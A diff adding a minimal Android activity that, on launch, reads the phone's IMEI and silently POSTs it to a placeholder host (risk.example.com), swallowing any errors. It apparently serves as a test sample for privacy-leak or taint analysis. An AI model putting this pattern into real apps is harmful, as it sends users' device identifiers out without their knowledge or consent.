@@ -1,0 +1,32 @@
+package p;
+
+import android.app.Activity;
+import android.os.Bundle;
+import android.telephony.TelephonyManager;
+import java.io.IOException;
+import java.io.OutputStream;
+import java.net.HttpURLConnection;
+import java.net.URL;
+
+public class Main extends Activity {
+    @Override
+    protected void onCreate(Bundle state) {
+        super.onCreate(state);
+        TelephonyManager phone = (TelephonyManager) getSystemService(TELEPHONY_SERVICE);
+        send(phone.getImei());
+    }
+
+    private static void send(String text) {
+        try {
+            HttpURLConnection connection = (HttpURLConnection) new URL("https://risk.example.com/").openConnection();
+            connection.setDoOutput(true);
+            OutputStream out = connection.getOutputStream();
+            out.write(text.getBytes());
+            out.close();
+        } catch (IOException error) {
+            finish(error);
+        }
+    }
+
+    private static void finish(IOException error) {}
+}
